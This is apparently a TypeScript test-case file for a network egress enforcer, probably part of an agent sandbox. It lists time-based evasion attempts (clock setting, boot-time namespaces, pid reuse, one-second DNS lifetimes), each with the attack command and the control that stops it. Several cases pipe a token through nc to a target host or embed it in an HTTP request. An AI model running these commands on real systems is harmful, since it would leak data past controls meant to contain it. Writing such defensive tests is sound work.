import type { Row } from '../case.ts'
import { elsewhere, python } from './script.ts'

export const time: Row = {
  row: 28,
  title: 'Time',
  cases: [
    elsewhere(
      [
        'reload-under-load',
        'acts while the policy is replaced',
        'one policy or the other, at every instant',
      ],
      'packages/agent/test/enforce/reload.root.test.ts',
      ['root'],
    ),
    elsewhere(
      [
        'entry-expires',
        'use of an address whose name’s time is over',
        'a flow goes on, a new one is refused',
      ],
      'packages/agent/test/enforce/learned.root.test.ts',
      ['root'],
    ),
    {
      id: 'clock-set',
      technique: 'setting the clock, so that learned addresses live longer',
      as: ['user'],
      attempt: python(`
try: time.clock_settime(time.CLOCK_REALTIME, time.time() + 1)
except PermissionError as error: print(error)
tcp((D4, 443 if T[2] == 'a' else PORT))`),
      by: 'the kernel: permission denied; learned addresses end by the clock since boot, which nobody sets',
    },
    {
      id: 'time-namespace',
      technique: 'own time namespace with another time since boot',
      attempt: `unshare -UrTf --boottime 1000000 bash -c 'echo "$T" | nc -N -w 3 $D4 8080'`,
      twin: `unshare -UrTf --boottime 1000000 bash -c 'echo "$T" | nc -N -w 3 $D4 8080'`,
      by: 'connect: `EPERM`',
    },
    {
      id: 'pid-reuse',
      technique: 'a second process under the pid of a first one that was allowed something',
      attempt: `unshare -Urpf --mount-proc bash -c '
echo 40 >/proc/sys/kernel/ns_last_pid; nc -N -w 2 \${D4/11.18/11.19} 8080 <<<x; echo 40 >/proc/sys/kernel/ns_last_pid; nc -N -w 3 $D4 8080 <<<"$T"'`,
      by: 'connect: no rule is about a pid',
    },
    {
      id: 'ttl-zero',
      technique: 'an answer with a lifetime of one second for a flow that lasts, then a denied one',
      attempt: python(`
s = made()
s.connect((address_of('to-c633640a.x%s.allow.example.com' % T[1:]), 8080))
request = b'GET / HTTP/1.1\\r\\nHost: to-c633640a.x' + DATA[1:] + b'.allow.example.com:8080\\r\\n\\r\\n'
s.sendall(request)
time.sleep(1.5)
s.sendall(request)
s.recv(1) or sys.exit(3)
tcp(WHERE4)`),
      by: 'connect: `EPERM`',
    },
  ],
}
